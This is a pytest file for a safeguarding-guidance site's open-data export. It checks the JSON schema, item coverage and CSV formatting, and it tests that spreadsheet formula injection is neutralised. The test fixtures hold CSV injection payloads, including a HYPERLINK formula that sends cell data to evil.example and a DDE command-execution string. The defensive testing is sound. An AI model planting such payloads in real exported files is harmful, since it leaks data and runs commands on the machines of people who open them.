"""Open data: guidance.json valid against its published schema, every item present, CSVs that open."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import jsonschema
import pytest

from conftest import ROOT
from portal.model.loader import load_guidance
from portal.publish.open_data import KINDS, csv_files, dataset, open_data_files, schema, spreadsheet_cell
from tests.test_validation import TODAY, edit


@pytest.fixture(scope="module")
def published(built_site: Path) -> tuple[dict, dict]:  # type: ignore[type-arg]
    """guidance.json and its schema, as the built site publishes them."""
    folder = built_site / "open-data"
    return (
        json.loads((folder / "guidance.json").read_text(encoding="utf-8")),
        json.loads((folder / "guidance.schema.json").read_text(encoding="utf-8")),
    )


def test_the_published_json_validates_against_the_published_schema(published) -> None:  # type: ignore[no-untyped-def]
    document, published_schema = published
    validator = jsonschema.Draft202012Validator(published_schema)
    validator.validate(document)
    assert document["schema_version"] == 1 and document["licence"]["name"] == "CC BY 4.0"
    assert document["site"]["name"] == load_guidance(ROOT / "data").site.name
    # Negative controls: the schema is strict enough to notice damage.
    broken = json.loads(json.dumps(document))
    del broken["risks"][0]["actions"]
    assert not validator.is_valid(broken)
    broken = json.loads(json.dumps(document))
    broken["resources"][0]["phone_number"] = "0800"
    assert not validator.is_valid(broken)
    broken = json.loads(json.dumps(document))
    broken["faqs"][0]["review"]["reviewed"] = 20261130
    assert not validator.is_valid(broken)


def test_every_item_of_every_kind_is_in_the_json(published) -> None:  # type: ignore[no-untyped-def]
    document, _ = published
    guidance = load_guidance(ROOT / "data")
    for key, _ in KINDS:
        assert [item["id"] for item in document[key]] == [item.id for item in getattr(guidance, key)], key
        assert all(item["local"] is False for item in document[key]), "no local items upstream"
    posh = next(r for r in document["resources"] if r["id"] == "posh")
    assert posh["contact"]["phone"] == guidance.resources.get("posh").contact.phone
    lado = next(r for r in document["resources"] if r["id"] == "lado")
    assert lado["nations"] == ["england"] and "wales" in lado["equivalents"]
    guide = document["guides"][0]
    assert guide["steps"][0]["answers"] and guide["version"] == guidance.guides.items[0].version


def test_a_hosted_copys_export_marks_its_items_and_leaves_out_hidden_ones() -> None:
    from tests.test_fork import SAMPLE_FORK

    guidance = load_guidance(ROOT / "data", local_dir=SAMPLE_FORK)  # today: the data is reviewed up to now
    document = dataset(guidance, date(2026, 11, 30), guidance.site.url)
    jsonschema.Draft202012Validator(schema()).validate(document)
    local = {r["id"]: r["local"] for r in document["resources"]}
    assert local["exampleshire-allegations-procedure"] is True and local["posh"] is False
    assert "friendly-wifi" not in local, "the sample copy hides friendly-wifi"
    assert document["site"] == {"name": guidance.site.name, "url": guidance.site.url}
    upstream = {r["id"] for r in dataset(load_guidance(ROOT / "data"), date(2026, 11, 30), None)["resources"]}
    assert "friendly-wifi" in upstream, "the control: upstream has it"


def test_the_csv_files_open_in_pythons_csv_module_with_a_bom() -> None:
    guidance = load_guidance(ROOT / "data")
    files = csv_files(guidance)
    assert sorted(files) == ["faqs.csv", "glossary.csv", "resources.csv", "risks.csv"]
    counts = {"resources.csv": len(guidance.resources), "risks.csv": len(guidance.risks)}
    counts |= {"faqs.csv": len(guidance.faqs), "glossary.csv": len(guidance.glossary)}
    for name, text in files.items():
        assert text.startswith("\ufeff"), f"{name}: spreadsheets need the BOM to read UTF-8"
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert len(rows) == counts[name] + 1 and all(len(row) == len(rows[0]) for row in rows), name
    resources = list(csv.DictReader(io.StringIO(files["resources.csv"].removeprefix("\ufeff"))))
    posh = next(row for row in resources if row["id"] == "posh")
    assert posh["phone"] == guidance.resources.get("posh").contact.phone
    risks = list(csv.DictReader(io.StringIO(files["risks.csv"].removeprefix("\ufeff"))))
    grooming = next(row for row in risks if row["id"] == "grooming")
    assert len(grooming["actions"].split("\n")) == len(guidance.risks.get("grooming").actions)


def test_the_open_data_page_documents_every_field(page) -> None:  # type: ignore[no-untyped-def]
    soup = page("open-data/")
    documented: dict[str, list[str]] = {}
    for heading in soup.select("article h3[id]"):
        table = heading.find_next("table")
        documented[heading["id"]] = [row.find("code").get_text() for row in table.select("tbody tr")]
    definitions = schema()["$defs"]
    for name, definition in definitions.items():
        assert documented[name.lower()] == list(definition["properties"]), name
    empty = [cell.get_text() for cell in soup.select("article tbody td:last-child") if not cell.get_text().strip()]
    assert empty == [], "every field has a description"
    files = [a["href"] for a in soup.select("article table a") if a["href"].endswith(("json", "csv"))]
    assert {"guidance.json", "guidance.schema.json", "resources.csv"} <= set(files)


def test_the_files_are_the_same_for_the_same_data() -> None:
    guidance = load_guidance(ROOT / "data")
    first = open_data_files(guidance, date(2026, 11, 30), None)
    assert first == open_data_files(load_guidance(ROOT / "data"), date(2026, 11, 30), None)
    assert first != open_data_files(guidance, date(2026, 12, 1), None), "the build date is recorded"


# ---- No cell runs as a formula in a spreadsheet (issue 23) ----

# What a spreadsheet may read as the start of a formula (OWASP's list, and the full-width forms).
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_rows(text: str) -> list[list[str]]:
    """The cells of a published CSV, as Python's csv module reads them, after checking every cell is quoted."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert text.removeprefix("\ufeff") == again.getvalue(), "every cell is in double quotes"
    return rows


def test_no_csv_the_site_publishes_holds_a_cell_a_spreadsheet_would_run(built_site: Path) -> None:
    published = sorted(built_site.rglob("*.csv"))
    assert [p.relative_to(built_site).as_posix() for p in published] == [
        f"open-data/{name}" for name in ("faqs.csv", "glossary.csv", "resources.csv", "risks.csv")
    ], "a new CSV: make it with open_data._csv, or neutralise its cells the same way"
    for path in published:
        for row in csv_rows(path.read_bytes().decode("utf-8")):
            assert not [cell for cell in row if cell.startswith(FORMULA)], path.name


# Each starts the way a formula does; all are values the checks accept in these fields.
HOSTILE = {
    "resources/helpline-one.yml": [
        ("title: Helpline One", 'title: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Click for help\\")"'),
        ("publisher: Example Trust", "publisher: \"@SUM(1+1)*cmd|' /C calc'!A0\""),
        ("summary: A helpline for professionals.", 'summary: "+44 20 7946 0000, then press 1"'),
        ("email: help@example.org.uk", "email: -2+3@example.org.uk"),
        ("hours: Monday to Friday, 10am to 4pm", 'hours: "\\t=1+1"'),
    ],
    "faqs/who-leads.yml": [
        ("question: Who leads on online safety?", 'question: "\uff1d1+1"'),
        ("answer: |\n  The safeguarding lead leads", "answer: |\n  - The safeguarding lead leads"),
    ],
    "glossary.yml": [
        ("term: DSL", 'term: "\uff20DSL"'),
        ("expansion: Designated Safeguarding Lead", 'expansion: "\uff0b1"'),
        ("definition: The senior member", 'definition: "\uff0d1 The senior member'),
    ],
    "risks/fixture-risk.yml": [("summary: A risk used by the tests.", 'summary: "-1+1 risk"')],
}


def test_cells_from_hostile_data_are_neutralised_and_ordinary_ones_kept(minimal_data: Path) -> None:
    for name, changes in HOSTILE.items():
        for old, new in changes:
            edit(minimal_data / name, old, new)
    edit(minimal_data / "glossary.yml", "safeguarding.\n", 'safeguarding."\n')
    guidance = load_guidance(minimal_data, today=TODAY)  # the checks accept every one of them
    files = csv_files(guidance)
    cells = {name: csv_rows(text) for name, text in files.items()}
    for name, rows in cells.items():
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)], name
    helpline = dict(zip(cells["resources.csv"][0], cells["resources.csv"][1], strict=True))
    assert helpline["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click for help")'
    assert helpline["publisher"].startswith("'@SUM(1+1)")
    assert helpline["summary"] == "'+44 20 7946 0000, then press 1", "a +44 phone number is neutralised too"
    assert (helpline["email"], helpline["hours"]) == ("'-2+3@example.org.uk", "'\t=1+1")
    faq = dict(zip(*cells["faqs.csv"][:2], strict=True))
    assert (faq["question"], faq["answer"]) == ("'\uff1d1+1", "'- The safeguarding lead leads, supported by others.\n")
    terms = {row[0]: row for row in cells["glossary.csv"][1:]}
    term = dict(zip(cells["glossary.csv"][0], terms["'\uff20DSL"], strict=True))
    assert (term["term"], term["expansion"], term["definition"][:3]) == ("'\uff20DSL", "'\uff0b1", "'\uff0d1")
    risk = next(row for row in cells["risks.csv"] if row[0] == "fixture-risk")
    assert risk[2] == "'-1+1 risk"
    # Controls: a phone number, a date, a dash or an equals sign inside the text stay exactly as they are.
    other = dict(zip(cells["resources.csv"][0], cells["resources.csv"][2], strict=True))
    assert other["id"] == "guide-two" and "'" not in "".join(other.values())
    assert helpline["phone"] == "0344 381 4772"
    assert risk[:2] == ["fixture-risk", "Fixture risk"] and risk[4].startswith("Do not view the image.")
    assert terms["C&YP"][:2] == ["C&YP", "children and young people"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        ("0808 800 5000", "0808 800 5000"),
        ("2026-01-15", "2026-01-15"),
        ("a - b = c @ d + e", "a - b = c @ d + e"),
        (" =1+1", " =1+1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_one_function_neutralises_each_formula_start_and_nothing_else(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
